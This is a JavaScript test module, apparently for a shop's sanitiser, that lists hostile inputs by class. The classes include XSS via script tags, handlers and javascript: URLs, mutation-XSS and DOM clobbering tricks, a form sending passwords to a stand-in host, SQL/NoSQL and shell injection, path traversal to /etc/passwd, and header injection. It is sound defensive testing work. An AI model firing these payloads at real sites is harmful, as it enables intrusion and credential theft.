/**
 * What a hostile editor, customer or provider would write where plain words are expected. Whatever of it runs sets
 * `window.__attacked` (or asks, opens, leads away), which the watched page notices. A class is one way of getting there.
 *
 * @typedef {keyof ReturnType<typeof hostilePayloads>} PayloadClass
 */

const run = '__attacked=1';
const lineSeparator = '\u2028';

/** Elements that run a text by being there. @param {string} elsewhere */
const scripts = (elsewhere) => [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<script type="module" src="${elsewhere}/b.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/anything>${run}</script\t>`,
  `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  `<xml><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></xml>`,
];

/** Attributes that run a text when something happens, all of which happens by itself or by a touch. */
const handlers = () => [
  `<img src="/-/no-such.png" onerror="${run}">`,
  `<img/src=x/onerror=${run}//`,
  `<svg onload="${run}"></svg>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}"><summary>more</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `<p onmouseover=${run} style="position:fixed;inset:0">over</p>`,
  `<div tabindex=0 onfocusin="${run}" autofocus>here</div>`,
  `<p onanimationstart="${run}" style="animation:spin 1s">turn</p>`,
  `<a href="#x" onpointerrawupdate="${run}" oNcLiCk="${run}">press</a>`,
];

/** Addresses that are programs. @param {string} elsewhere */
const addresses = (elsewhere) => [
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\tscript:${run}`,
  ` \u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX2F0dGFja2VkPTE8L3NjcmlwdD4=`,
  `vbscript:${run}`,
  `blob:${elsewhere}/1`,
  `//${new URL(elsewhere).host}/a`,
  `\\\\${new URL(elsewhere).host}\\a`,
];

/** Elements that lead the visitor or the document's own addresses elsewhere. @param {string} elsewhere */
const documents = (elsewhere) => [
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refreshed">`,
  `<meta http-equiv=refresh content='0;url=javascript:${run}'>`,
  `<base href="${elsewhere}/">`,
  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  `<link rel="prefetch" href="${elsewhere}/prefetched">`,
  `<iframe src="${elsewhere}/framed"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${elsewhere}/object"></object>`,
  `<embed src="${elsewhere}/embedded">`,
  `<frameset onload="${run}"><frame src="${elsewhere}/frame"></frameset>`,
  `</main></div></body></html><html><head><meta http-equiv="refresh" content="0;url=${elsewhere}/second"></head>`,
];

/** Markup that means one thing to whoever cleans it and another to a browser. */
const namespaces = () => [
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">press</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${run}" /></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><foreignObject><body onload="${run}"></body></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math href="javascript:${run}"><mi>x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<table><td><svg><desc><td><title>&lt;img src=x onerror=${run}&gt;</title></td></desc></svg></td></table>`,
];

/** Ids and names that take the place of what the shop's own scripts look for. @param {string} elsewhere */
const clobbering = (elsewhere) => [
  '<p id="boot">{"page":"catalog.index","named_routes":{}}</p>',
  `<div id="page-scripts">[{"src":"${elsewhere}/clobbered.js"}]</div>`,
  '<div id="root">emptied</div><main id="content" data-page="nothing.here">emptied</main>',
  '<form id="content" name="content"><input name="dataset"><input name="textContent"></form>',
  `<a id="__FEDERATION__" href="${elsewhere}/x"></a><a id="__FEDERATION__" name="__SHARE__" href="${elsewhere}/y"></a>`,
  `<img name="dataLayer"><img name="gtag"><img name="currentScript"><a id="location" href="${elsewhere}">`,
  '<form name="querySelector"></form><form name="getElementById"></form><img name="body"><img name="cookie">',
  '<input name="attributes"><form id="forms"><input name="nodeName"><input name="parentNode"></form>',
  `<a id="publicPath" href="${elsewhere}/"></a><a id="__webpack_public_path__" href="${elsewhere}/"></a>`,
];

/** Texts that end what they were put into: an element, an attribute, a JSON, a template, a comment. */
const breakouts = () => [
  `</script><script>${run}</script>`,
  `"></script><svg onload=${run}>`,
  `</title></style></textarea></noscript></template><img src=x onerror=${run}>`,
  `<!--<script>${run}//--></script>`,
  `--><img src=x onerror=${run}><!--`,
  `"}};${run};({"a":{"b":"`,
  `${lineSeparator}${run}${lineSeparator}//`,
  `'+(${run})+'`,
  `"onmouseover=${run} x="`,
  `' autofocus onfocus=${run} '`,
  '{{constructor.constructor("__attacked=1")()}}',
  `\${${run}}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;img src=x onerror=${run}&gt;`,
  `<![CDATA[<script>${run}</script>]]>`,
];

/** Styles and pictures that fetch, cover the page or read it. @param {string} elsewhere */
const styles = (elsewhere) => [
  `<style>@import url("${elsewhere}/imported.css");</style>`,
  `<style>body{display:none}*{background:url(${elsewhere}/background)}</style>`,
  `<p style="background-image:url(${elsewhere}/inline)">styled</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647;opacity:0">covering</p>`,
  `<img srcset="${elsewhere}/one.png 1x, ${elsewhere}/two.png 2x" src="${elsewhere}/three.png">`,
  `<picture><source srcset="${elsewhere}/source.png"><img src="${elsewhere}/fallback.png"></picture>`,
  `<video poster="${elsewhere}/poster.png" src="${elsewhere}/film.mp4" autoplay></video>`,
  `<audio src="${elsewhere}/sound.mp3" autoplay></audio>`,
  `<table background="${elsewhere}/table.png"><tr><td>cell</td></tr></table>`,
  `<p style="width:expression(${run});behavior:url(#x);-moz-binding:url(${elsewhere}/b.xml#x)">old</p>`,
];

/** Forms that send what the visitor types elsewhere. @param {string} elsewhere */
const forms = (elsewhere) => [
  `<form action="${elsewhere}/taken"><input name="password"><button>Go on</button></form>`,
  `<button formaction="javascript:${run}" form="quick">Go on</button>`,
  `<input type="submit" formaction="${elsewhere}/taken" formmethod="get" value="Go on">`,
  `<input type="image" formaction="javascript:${run}" src="x">`,
  `</form><form action="${elsewhere}/second">`,
  `<form action="javascript:${run}"><input autofocus></form>`,
  `<textarea form="search" name="search_q">left behind`,
  `<a href="${elsewhere}/opened" target="_top" ping="${elsewhere}/ping">leave</a>`,
  `<isindex action="javascript:${run}" type="submit">`,
];

/** Plain strings that other languages than HTML trip over, and strings that are hard to show. */
const strings = () => [
  "O'Brien'); DROP TABLE orders;--",
  "' OR '1'='1' UNION SELECT password_hash FROM users --",
  '{"$gt":""}',
  '{"$where":"sleep(5000)"}',
  '*)(uid=*))(|(uid=*',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd%00.png',
  'two lines\r\nSet-Cookie: attacked=1\r\nBcc: everybody@example.com',
  '#{7*7} <%= 7*7 %> {% 7*7 %} @(7*7)',
  `\${7*7}`,
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
  '__proto__',
  'constructor',
  '-9223372036854775809',
  '1e309',
  'NaN',
  '0x7fffffff',
  '\u202etxet sdrawkcab\u202c \u2066hidden\u2069',
  'zero\u200bwidth\ufeff and\u00a0spaces\u3000',
  'null\u0000byte and \u0007bell',
  '\ud800 half of a pair',
  `Z${'\u0351\u0352\u0353'.repeat(40)}algo`,
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(10),
  'İıŞşẞß ﷽ ﬃ',
  'W'.repeat(3000),
  '(((((((((((((((((a*)*)*)*)*)*)*)*)*)*)*)*)*)*)*)*)*)!',
  '=HYPERLINK("http://127.0.0.1/";"open")',
  '; cat /etc/passwd | $(id) `id` &',
];

/** All payloads by class. @param {{ elsewhere: string }} options the origin of a site that hostile content leads to */
export function hostilePayloads({ elsewhere }) {
  return {
    scripts: scripts(elsewhere),
    handlers: handlers(),
    links: addresses(elsewhere).map((address) => `<a href="${address}">press</a><img src="${address}">`),
    documents: documents(elsewhere),
    namespaces: namespaces(),
    clobbering: clobbering(elsewhere),
    breakouts: breakouts(),
    styles: styles(elsewhere),
    forms: forms(elsewhere),
    strings: strings(),
    addresses: addresses(elsewhere),
  };
}

/** One of each class: what the short run tries. @param {ReturnType<typeof hostilePayloads>} payloads */
export function mostTelling(payloads) {
  return {
    ...payloads,
    ...Object.fromEntries(Object.entries(payloads).map(([name, texts]) => [name, texts.slice(0, 3)])),
  };
}
